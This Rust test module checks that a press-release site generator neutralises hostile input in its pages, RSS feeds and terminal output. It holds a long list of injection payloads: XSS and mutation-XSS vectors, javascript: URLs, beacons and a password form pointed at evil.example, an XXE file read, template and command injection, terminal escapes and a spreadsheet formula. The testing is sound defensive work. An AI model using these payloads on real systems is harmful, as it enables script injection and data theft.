//! What somebody could put into a release to harm its readers, the press office or the build.

use std::collections::BTreeSet;
use std::process::{Command, Stdio};
use std::time::Duration;

use html5ever::tendril::TendrilSink;
use markup5ever_rcdom::{Handle, NodeData, RcDom};

use crate::harness::{Fixture, NOW, PIXEL, Run, SITE, Tree, tree};

// Pages as a browser builds them.

/// An element of a page's tree.
#[derive(Debug)]
pub struct Node {
    pub name: String,
    pub attrs: Vec<(String, String)>,
    /// All text inside.
    pub text: String,
    /// The `id` of the nearest ancestor that has one.
    pub within: Option<String>,
}

/// Every element of a document, as the algorithm of HTML's parser builds them.
pub fn nodes(html: &str) -> Vec<Node> {
    let dom = html5ever::parse_document(RcDom::default(), Default::default()).one(html);
    let mut nodes = Vec::new();
    let mut stack: Vec<(Handle, Option<String>)> = vec![(dom.document.clone(), None)];
    while let Some((handle, within)) = stack.pop() {
        let mut inner = within.clone();
        if let NodeData::Element { name, attrs, template_contents, .. } = &handle.data {
            let attrs: Vec<(String, String)> =
                attrs.borrow().iter().map(|a| (a.name.local.to_string(), a.value.to_string())).collect();
            if let Some((_, id)) = attrs.iter().find(|(name, _)| name == "id") {
                inner = Some(id.clone());
            }
            let prefix = if &*name.ns == "http://www.w3.org/1999/xhtml" { "" } else { "foreign:" };
            let name = format!("{prefix}{}", name.local);
            nodes.push(Node { name, attrs, text: text_of(&handle), within });
            if let Some(contents) = &*template_contents.borrow() {
                stack.push((contents.clone(), inner.clone()));
            }
        }
        let children = handle.children.borrow();
        stack.extend(children.iter().rev().map(|child| (child.clone(), inner.clone())));
    }
    nodes
}

fn text_of(handle: &Handle) -> String {
    let mut text = String::new();
    let mut stack = vec![handle.clone()];
    while let Some(handle) = stack.pop() {
        if let NodeData::Text { contents } = &handle.data {
            text.push_str(&contents.borrow());
        }
        stack.extend(handle.children.borrow().iter().rev().cloned());
    }
    text
}

/// What a release's text may be made of.
const PROSE: &str = "a abbr acronym article aside b bdi bdo blockquote br caption center cite code col colgroup \
    data dd del details dfn div dl dt em figcaption figure footer h2 h3 h4 h5 h6 header hgroup hr i img ins kbd li \
    map mark area nav ol p pre q rp rt rtc ruby s samp small span strike strong sub summary sup table tbody td tfoot \
    th thead time tr tt u ul var wbr";

const PROSE_ATTRIBUTES: &str = "href hreflang title alt src width height loading class id dir lang tabindex scope \
    rowspan colspan headers align char charoff valign start type value datetime cite span summary abbr reversed \
    border cellpadding cellspacing rules frame name size axis bgcolor color face nowrap open";

/// What of a text's tree could act, load or lead elsewhere; `inside` is the `id` of what it stands in.
pub fn live_in_text(body: &str) -> Vec<String> {
    let page = format!(
        "<!DOCTYPE html><html><head><title>x</title></head><body><div id=\"prose\">{body}</div><i id=\"after\"></i></body></html>"
    );
    let mut live = Vec::new();
    let (elements, attributes) = (words(PROSE), words(PROSE_ATTRIBUTES));
    let mut seen_after = false;
    for node in nodes(&page) {
        let attr = |name: &str| node.attrs.iter().find(|(known, _)| known == name).map(|(_, v)| v.as_str());
        match (node.name.as_str(), attr("id")) {
            ("html" | "head" | "body" | "title", _) if node.within.is_none() && node.attrs.is_empty() => continue,
            ("div", Some("prose")) if node.within.is_none() => continue,
            ("i", Some("after")) if node.within.is_none() => {
                seen_after = true;
                continue;
            }
            _ => {}
        }
        if node.within.is_none() {
            live.push(format!("<{}> stands outside the text", node.name));
        }
        if !elements.contains(node.name.as_str()) {
            live.push(format!("<{}>", node.name));
        }
        for (name, value) in &node.attrs {
            if !attributes.contains(name.as_str()) {
                live.push(format!("<{} {name}=…>", node.name));
            }
            live.extend(bad_address(&node.name, name, value));
        }
    }
    if !seen_after {
        live.push("what follows the text is swallowed by it".into());
    }
    live
}

/// An attribute that leads or loads where it must not.
fn bad_address(element: &str, attribute: &str, value: &str) -> Option<String> {
    let loads = matches!(attribute, "src" | "srcset" | "poster" | "data" | "background");
    if !loads && !matches!(attribute, "href" | "action" | "formaction" | "cite" | "ping" | "content") {
        return None;
    }
    if attribute == "content" {
        return None;
    }
    // What a browser skips in an address: controls at its ends, tabs and line ends anywhere.
    let bare: String = value
        .trim_matches(|c: char| c <= ' ')
        .chars()
        .filter(|c| !matches!(c, '\t' | '\n' | '\r'))
        .map(|c| if c == '\\' { '/' } else { c })
        .collect();
    let scheme = bare.split_once(':').map(|(before, _)| before.to_ascii_lowercase()).filter(|before| {
        before.starts_with(|c: char| c.is_ascii_alphabetic())
            && before.chars().all(|c| c.is_ascii_alphanumeric() || matches!(c, '+' | '-' | '.'))
    });
    let bad = match scheme.as_deref() {
        Some("http" | "https" | "mailto" | "tel") => loads,
        Some(_) => true,
        None => loads && bare.starts_with("//"),
    };
    bad.then(|| format!("<{element} {attribute}={value:?}>"))
}

fn words(list: &str) -> BTreeSet<&str> {
    list.split_whitespace().collect()
}

// Payloads.

/// Each is put into every field and every text. They come from the classes that sanitisers,
/// template engines, feed readers and terminals have fallen for.
const PAYLOADS: &[&str] = &[
    // Elements that act.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script/x>alert(1)</script>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)//",
    "</script><script>alert(1)</script>",
    "<script type=\"module\">import('//evil.example/')</script>",
    "<script type=\"application/ld+json\">{\"@type\":\"Evil\"}</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example/)}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<base href=//evil.example/>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=data:text/html,<script>alert(1)</script>></object>",
    "<embed src=//evil.example/x.swf>",
    "<applet code=X></applet>",
    "<frameset onload=alert(1)>",
    "<form action=//evil.example/><input name=password><button>ok</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<select><option><style></option></select><img src=x onerror=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<video src=//evil.example/v.mp4 onloadstart=alert(1)></video>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<portal src=//evil.example/></portal>",
    "<dialog open oncancel=alert(1)>x</dialog>",
    "<template><script>alert(1)</script></template>",
    "<slot name=x onslotchange=alert(1)></slot>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext>",
    "<listing>&lt;script&gt;alert(1)&lt;/script&gt;</listing>",
    "<x-evil onclick=alert(1)>x</x-evil>",
    // Handlers on elements that may stay.
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img/src=x/onerror=alert(1)>",
    "<img src=\"x\"onerror=\"alert(1)\">",
    "<img src='x' ONERROR='alert(1)'>",
    "<img src=`x`onerror=alert(1)>",
    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
    "<img src=x:alert(1) onerror=eval(src)>",
    "<img srcset=\"//evil.example/x 1x\">",
    "<img src=//evil.example/pixel.gif>",
    "<img src=https://evil.example/pixel.gif width=1 height=1>",
    "<img src=data:image/svg+xml,<svg/onload=alert(1)>>",
    "<img src=\\\\evil.example\\x>",
    "<img src=/\\evil.example/x>",
    "<img lowsrc=javascript:alert(1)>",
    "<img dynsrc=javascript:alert(1)>",
    "<image src=x onerror=alert(1)>",
    "<p onclick=alert(1)>x</p>",
    "<p onmouseover\n=\nalert(1)>x</p>",
    "<b onpointerenter=alert(1)>x</b>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<div style=\"position:fixed;inset:0\">x</div>",
    "<p style=behavior:url(//evil.example/x.htc)>x</p>",
    "<a href=x onclick=alert(1)>x</a>",
    "<details open ontoggle=alert(1)>x</details>",
    "<table background=javascript:alert(1)><tr><td>x</td></tr></table>",
    "<td background=//evil.example/x.png>",
    "<body onload=alert(1)>",
    "<html onclick=alert(1)>",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "\"><img src=x onerror=alert(1)>",
    "'><img src=x onerror=alert(1)>",
    "\"><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "x\" autofocus onfocus=alert(1) x=\"",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</h1></header></main></body></html><script>alert(1)</script>",
    "</div></div></article><h1>Faux titre</h1>",
    // Addresses.
    "<a href=javascript:alert(1)>x</a>",
    "<a href=JaVaScRiPt:alert(1)>x</a>",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\"java&#10;script:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)\">x</a>",
    "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<a href=\"javascript&Tab;:alert(1)\">x</a>",
    "<a href=\"&#1;javascript:alert(1)\">x</a>",
    "<a href=\"\u{a0}javascript:alert(1)\">x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<a href=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>x</a>",
    "<a href=blob:https://evil.example/1>x</a>",
    "<a href=file:///etc/passwd>x</a>",
    "<a href=view-source:x>x</a>",
    "<a xlink:href=javascript:alert(1)>x</a>",
    "<a ping=//evil.example/ href=https://example.org/>x</a>",
    "<area shape=rect coords=0,0,9,9 href=javascript:alert(1)>",
    "<map name=m><area href=//evil.example/></map>",
    "<q cite=javascript:alert(1)>x</q>",
    "<blockquote cite=//evil.example/>x</blockquote>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](java%73cript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](\\javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](//evil.example/ \"\\\" onmouseover=alert(1) x=\\\"\")",
    "[x](https://example.org/\"onmouseover=\"alert(1))",
    "[x](<https://example.org/\"><img src=x onerror=alert(1)>>)",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x][y]\n\n[y]: data:text/html,x 'title\" onclick=alert(1)'",
    "<javascript:alert(1)>",
    "<https://example.org/\"onclick=alert(1)>",
    "<mailto:a@example.org?body=<script>alert(1)</script>>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.gif)",
    "![\"><img src=x onerror=alert(1)>](https://evil.example/x.gif)",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "![[x](javascript:alert(1))](https://example.org/a.png)",
    "[![x](javascript:alert(1))](javascript:alert(2))",
    // Other namespaces, and trees that change when they are read again.
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<svg><use href=//evil.example/x.svg#a></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id=\"</style><img src=x onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=alert(1)&gt;\">",
    "<math href=javascript:alert(1)>x</math>",
    "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>",
    "<noframes><img title=\"</noframes><img src=x onerror=alert(1)>\"></noframes>",
    "<p id=\"</p><img src=x onerror=alert(1)>\">x",
    "<table><td><a href=x></td></table></a><script>alert(1)</script>",
    "<a><table><a href=javascript:alert(1)>x</table>",
    "<b><p></b><img src=x onerror=alert(1)></p>",
    "<ul><li><ul></li><script>alert(1)</script></ul>",
    "<select><iframe><script>alert(1)</script></select>",
    "<ruby><rtc><style></rtc><img src=x onerror=alert(1)></ruby>",
    // Comments, declarations and sections.
    "<!--",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--!><img src=x onerror=alert(1)>--!>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!-- <script>alert(1)</script>",
    "<!--<script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "]]><script>alert(1)</script>",
    "]]>",
    "]]]]><![CDATA[>",
    "<?xml version=\"1.0\"?><x/>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "<!DOCTYPE html [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>&x;",
    "<!ELEMENT x ANY>",
    "<%= system('id') %>",
    "</>",
    "< script>alert(1)</ script>",
    "<",
    "<a",
    "<a href=\"",
    "&",
    "&#",
    "&#0;&#x110000;&#xD800;&#xFFFF;",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&NotAnEntity;&copy&nbsp&zwj;",
    // Templates and data.
    "{{ 7*7 }}",
    "{{ portal | json_encode | safe }}",
    "{% raw %}{{ 7*7 }}",
    "{% endraw %}{% include \"base.html\" %}",
    "{# comment #}{%- if true -%}x{%- endif -%}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "\",\"@type\":\"Evil\",\"x\":\"",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\\"; alert(1); //",
    "</script><!--<script>\u{2028}alert(1)\u{2029}",
    "\u{2028}\u{2029}",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    // Markdown.
    "```\"><script>alert(1)</script>\nx\n```",
    "``` js onclick=alert(1) \"class=x\nx\n```",
    "~~~<img src=x onerror=alert(1)>\nx\n~~~",
    "`<img src=x onerror=alert(1)>`",
    "# x {#a\"onclick=alert(1) .b\"c onclick=alert(1)}",
    "# x { onclick=alert(1) style=position:fixed }",
    "x\n===\n\n<script>alert(1)</script>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "x[^1]\n\n[^1]: <script>alert(1)</script>",
    "[^\"><script>alert(1)</script>]\n\n[^\"><script>alert(1)</script>]: x",
    "> <script>\n> alert(1)\n> </script>",
    "1. <img src=x onerror=alert(1)>",
    "* * *\n<script>\nalert(1)\n</script>",
    "    <script>alert(1)</script>",
    "\\<script>alert(1)\\</script>",
    "***<script>alert(1)</script>***",
    "~~<script>~~alert(1)~~</script>~~",
    "<div>\n\n# x\n\n</div>\n\n<h1>y</h1>",
    // Letters.
    "＜script＞alert(1)＜/script＞",
    "\u{feff}<script>alert(1)</script>",
    "<scr\u{ad}ipt>alert(1)</scr\u{ad}ipt>",
    "<ſcript>alert(1)</ſcript>",
    "<\u{200b}script>alert(1)</script>",
    "بلاغ <script>alert(1)</script> نص",
    "\u{2067}<img src=x onerror=alert(1)>\u{2069}",
    "\u{61c}\u{200f}\u{200e}",
    "\u{fdd0}script\u{fdd2}\u{fdd1}",
    "\u{fffe}\u{ffff}\u{10ffff}",
    "\u{e0001}\u{e0041}\u{e007f}",
    // Terminals and XML.
    "\u{1b}[31mrouge\u{1b}[0m",
    "\u{1b}]0;titre\u{7}",
    "\u{1b}]8;;https://evil.example/\u{1b}\\lien\u{1b}]8;;\u{1b}\\",
    "\u{9b}31m \u{85} \u{7f}",
    "\u{8}\u{8}\u{8}\u{c}\u{b}\u{1}",
    "\r\nX-Header: x",
    "=cmd|' /C calc'!A0",
];

/// The numbers of fields and texts that one payload goes into, each in a release of its own, so that
/// the refusal of one hides none of the others.
const PLACES: usize = 6;

/// A TOML string.
fn quoted(text: &str) -> String {
    let mut out = String::from("\"");
    for c in text.chars() {
        match c {
            '"' | '\\' => out.extend(['\\', c]),
            c if c < ' ' || c == '\u{7f}' => out.push_str(&format!("\\u{:04X}", u32::from(c))),
            c => out.push(c),
        }
    }
    out.push('"');
    out
}

fn release(number: usize, place: usize, payload: &str) -> (String, String) {
    let word = quoted(&format!("mot {number} {payload}"));
    let title = if place == 0 { word.clone() } else { format!("\"Titre {number} {place}\"") };
    let day = format!("2026-{:02}-{:02}", 1 + number % 5, 1 + number % 27);
    let mut text = format!("+++\ntitle = {title}\ndate = {day}\nregion = \"souss-massa\"\n");
    let mut ending = "md";
    let mut body = "Texte.".to_owned();
    match place {
        0 => {}
        1 => text.push_str(&format!(
            "summary = {word}\nseries = {word}\nauthors = [{word}]\ncontact = {word}\nnumber = {word}\nid = {word}\n\
             image = {{ src = \"p.png\", alt = {word}, caption = {word}, credit = {word} }}\n\
             corrections = [{{ date = {day}, note = {word} }}]\n"
        )),
        2 => text.push_str(&format!("tags = [{word}]\n")),
        3 => text.push_str(&format!("withdrawn = {word}\n")),
        4 => body = payload.to_owned(),
        _ => (body, ending) = (payload.to_owned(), "txt"),
    }
    text.push_str(&format!("+++\n\nAvant.\n\n{body}\n\nAprès.\n"));
    (format!("content/h{number:03}-{place}.{ending}"), text)
}

/// What is wrong with a page: anything that no innocent page of the theme has.
fn live_in_page(path: &str, page: &str, known: &BTreeSet<(String, String)>, base: &str) -> Vec<String> {
    let mut live = Vec::new();
    for node in nodes(page) {
        if !known.contains(&(node.name.clone(), String::new())) && !words(PROSE).contains(node.name.as_str()) {
            live.push(format!("<{}>", node.name));
        }
        let in_head = matches!(node.name.as_str(), "link" | "meta" | "script");
        for (name, value) in &node.attrs {
            let of_theme = known.contains(&(node.name.clone(), name.clone()));
            let of_prose = !in_head && words(PROSE).contains(node.name.as_str())
                && words(PROSE_ATTRIBUTES).contains(name.as_str());
            if !of_theme && !of_prose {
                live.push(format!("<{} {name}={value:?}>", node.name));
            }
            live.extend(bad_address(&node.name, name, value));
        }
        if node.name == "link" {
            let href = node.attrs.iter().find(|(name, _)| name == "href").map_or("", |(_, value)| value.as_str());
            if (href.contains(':') || href.starts_with("//")) && !href.starts_with(base) {
                live.push(format!("<link href={href:?}>"));
            }
        }
        if node.name == "script" {
            let kind = node.attrs.iter().find(|(name, _)| name == "type").map(|(_, value)| value.as_str());
            if kind != Some("application/ld+json") || node.attrs.len() != 1 {
                live.push(format!("<script {:?}>", node.attrs));
            }
            match serde_json::from_str::<serde_json::Value>(&node.text) {
                Err(error) => live.push(format!("structured data: {error}")),
                Ok(data) => live.extend(strange_types(&data)),
            }
        }
    }
    live.into_iter().map(|one| format!("{path}: {one}")).collect()
}

fn strange_types(data: &serde_json::Value) -> Vec<String> {
    match data {
        serde_json::Value::Object(map) => {
            let own = map.get("@type").filter(|kind| *kind == "Evil").map(|_| "@type Evil".to_owned());
            own.into_iter().chain(map.values().flat_map(strange_types)).collect()
        }
        serde_json::Value::Array(list) => list.iter().flat_map(strange_types).collect(),
        _ => Vec::new(),
    }
}

/// What of a feed is malformed or live.
pub fn live_in_feed(path: &str, feed: &str) -> Vec<String> {
    use quick_xml::events::Event;
    let mut live = Vec::new();
    let mut reader = quick_xml::Reader::from_str(feed);
    reader.config_mut().check_end_names = true;
    let (mut open, mut content) = (Vec::<String>::new(), String::new());
    loop {
        match reader.read_event() {
            Err(error) => {
                live.push(format!("{error}"));
                break;
            }
            Ok(Event::Eof) => break,
            Ok(Event::Start(start)) => {
                for attribute in start.attributes() {
                    if let Err(error) = attribute {
                        live.push(error.to_string());
                    }
                }
                open.push(String::from_utf8_lossy(start.name().as_ref()).into_owned());
                content.clear();
            }
            Ok(Event::End(_)) => {
                match open.pop().as_deref() {
                    Some("content:encoded") => live.extend(live_in_text(&content)),
                    Some("description") if open.iter().any(|name| name == "item") => {
                        live.extend(live_in_text(&content))
                    }
                    _ => {}
                }
                content.clear();
            }
            Ok(Event::Text(text)) => content.push_str(&text.decode().unwrap()),
            Ok(Event::CData(text)) => content.push_str(&text.decode().unwrap()),
            Ok(Event::GeneralRef(reference)) => match reference.resolve_char_ref() {
                Ok(Some(c)) => content.push(c),
                _ => match quick_xml::escape::resolve_xml_entity(&reference.decode().unwrap()) {
                    Some(text) => content.push_str(text),
                    None => live.push(format!("an unknown entity {reference:?}")),
                },
            },
            Ok(Event::DocType(_) | Event::PI(_)) => live.push("a declaration".into()),
            Ok(_) => {}
        }
    }
    if let Some(c) = feed.chars().find(|c| is_no_xml(*c)) {
        live.push(format!("U+{:04X}", u32::from(c)));
    }
    live.into_iter().map(|one| format!("{path}: {one}")).collect()
}

/// Not allowed in XML 1.0.
pub fn is_no_xml(c: char) -> bool {
    c < ' ' && !matches!(c, '\t' | '\n' | '\r') || matches!(c, '\u{fffe}' | '\u{ffff}')
}

/// A character that a terminal acts on, or that reorders what stands on it.
fn acts_on_terminal(c: char) -> bool {
    (c.is_control() && !matches!(c, '\n' | '\t'))
        || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

#[track_caller]
fn assert_calm(said: &str) {
    if let Some(at) = said.find(acts_on_terminal) {
        let from = said.floor_char_boundary(at.saturating_sub(80));
        let to = said.ceil_char_boundary((at + 80).min(said.len()));
        panic!("the terminal is told {:?}", &said[from..to]);
    }
}

/// The portal of all payloads: what was refused, and the run without it.
fn hostile_portal() -> (Fixture, usize, Run) {
    let fixture = Fixture::with("").file("content/p.png", PIXEL);
    let mut all = BTreeSet::new();
    for (number, payload) in PAYLOADS.iter().enumerate() {
        for place in 0..PLACES {
            let (path, text) = release(number, place, payload);
            fixture.edit(&path, text);
            all.insert(path);
        }
    }
    let mut refused = 0;
    for _ in 0..4 {
        let run = fixture.build();
        assert_calm(&run.stderr);
        if run.code == 0 {
            return (fixture, refused, run);
        }
        for format in ["human", "json"] {
            let run = fixture.build_with(&["--format", format]);
            assert_calm(&run.stderr);
            assert_calm(&run.stdout);
        }
        assert_eq!(run.output, Tree::new());
        let of = |line: &str| line.split(':').next().unwrap_or_default().to_owned();
        let paths: BTreeSet<String> =
            run.short_errors().into_iter().map(of).filter(|path| all.contains(path)).collect();
        assert!(!paths.is_empty(), "{}", run.stderr);
        refused += paths.len();
        paths.iter().for_each(|path| {
            fixture.remove(path);
        });
    }
    panic!("still refused");
}

/// An innocent portal's elements and attributes.
fn known_of_theme() -> BTreeSet<(String, String)> {
    let mut known = BTreeSet::new();
    for fixture in [Fixture::small(), {
        let fixture = Fixture::with("").file("content/p.png", PIXEL);
        for place in 0..PLACES {
            for number in 0..30 {
                let (path, text) = release(number, place, "innocent");
                fixture.edit(&path, text);
            }
        }
        fixture
    }] {
        for (path, bytes) in fixture.build().assert_done().output {
            if path.ends_with(".html") {
                for node in nodes(std::str::from_utf8(&bytes).unwrap()) {
                    known.extend(node.attrs.into_iter().map(|(name, _)| (node.name.clone(), name)));
                    known.insert((node.name, String::new()));
                }
            }
        }
    }
    known
}

#[test]
fn hostile_payloads_are_many_and_different() {
    assert!(PAYLOADS.len() >= 150, "{}", PAYLOADS.len());
    assert_eq!(PAYLOADS.iter().collect::<BTreeSet<_>>().len(), PAYLOADS.len());
}

/// Nothing lives in any page or feed, whichever field or text a payload came by; and nothing that
/// is said of the refused ones acts on the terminal.
#[test]
fn hostile_payloads_are_dead_wherever_they_stand() {
    let known = known_of_theme();
    let (_fixture, refused, run) = hostile_portal();
    let written = PAYLOADS.len() * PLACES;
    assert!(refused < written / 4, "{refused} of {written} were refused: too few are tested");
    let (mut live, mut pages, mut feeds) = (Vec::new(), 0, 0);
    for (path, bytes) in &run.output {
        if path.ends_with(".html") {
            pages += 1;
            live.extend(live_in_page(path, std::str::from_utf8(bytes).unwrap(), &known, "https://parti.example/"));
        } else if path.ends_with(".xml") {
            feeds += 1;
            live.extend(live_in_feed(path, std::str::from_utf8(bytes).unwrap()));
        }
    }
    assert!(pages > written - refused && feeds > 20, "{pages} pages, {feeds} feeds");
    assert!(live.is_empty(), "{} live:\n{}", live.len(), live.join("\n"));
}
